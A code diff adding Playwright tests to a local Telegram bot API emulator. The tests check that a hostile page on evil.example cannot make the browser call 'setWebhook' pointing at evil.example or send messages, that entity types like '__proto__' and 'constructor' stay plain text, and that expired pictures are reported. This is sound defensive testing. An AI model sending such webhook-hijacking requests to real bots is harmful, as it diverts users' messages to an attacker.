@@ -11,6 +11,7 @@ from playwright.async_api import Browser, FilePayload, Page, ViewportSize, expec
 from telegram import BotCommandScopeChat
 
 from bot.local import ADA, ADMIN, BORIS, GROUP_ID, LocalTelegram
+from bot.local.api.files import FileStore
 from tests.bot.browsers import chromium, needs_browser
 from tests.bot.local.conftest import TOKEN, AnyApplication
 
@@ -196,3 +197,48 @@ async def test_the_page_comes_back_when_the_program_does(
         await expect(page.get_by_text("what was said before is gone")).to_be_visible()
         await expect(page.locator("article")).to_have_count(0)
         await page.close()
+
+
+async def test_another_web_page_cannot_make_the_browser_use_the_bot_api(
+    browser: Browser, url: str, page: httpx.AsyncClient, api: httpx.AsyncClient
+) -> None:
+    evil = await browser.new_page()
+    await evil.route("http://evil.example/", lambda route: route.fulfill(body="<p>Prizes!"))
+    for method in (
+        "setWebhook?url=https://evil.example/",
+        f"sendMessage?chat_id={ADA}&text=x",
+    ):
+        await evil.goto("http://evil.example/")
+        async with evil.expect_navigation():
+            await evil.evaluate("to => location = to", f"{url}/bot{TOKEN}/{method}")
+        assert evil.url.startswith(url)
+        await expect(evil.locator("body")).to_have_text("Only this machine's own page is let in.")
+    # A webhook would make this a conflict.
+    assert (await api.get("getUpdates")).json()["result"] == []
+    assert (await page.get(f"/chat/{ADA}/messages")).json()["messages"] == []
+    await evil.close()
+
+
+async def test_kinds_of_entities_that_nobody_knows_are_plain_text(
+    app: Page, api: httpx.AsyncClient
+) -> None:
+    for kind in ("constructor", "__proto__", "tomorrow"):
+        entities = [{"type": kind, "offset": 0, "length": 4}]
+        message = {"chat_id": ADA, "text": f"text of {kind}", "entities": entities}
+        assert (await api.post("sendMessage", json=message)).json()["ok"]
+        await expect(app.locator("article.theirs .text").last).to_have_text(f"text of {kind}")
+
+
+async def test_a_picture_that_is_no_longer_kept_says_so(
+    telegram: LocalTelegram,
+    app: Page,
+    api: httpx.AsyncClient,
+    page: httpx.AsyncClient,
+    picture: bytes,
+) -> None:
+    telegram.world.files = FileStore(max_bytes=1)
+    await page.post(f"/chat/{ADA}/send", data={"person": ADA}, files={"files": picture})
+    await api.post("sendPhoto", data={"chat_id": ADA}, files={"photo": picture})
+    await expect(app.locator("article.theirs .picture")).to_contain_text("This picture is gone")
+    # The bot has not fetched this one.
+    await expect(app.locator("article.own .picture img")).to_be_visible()
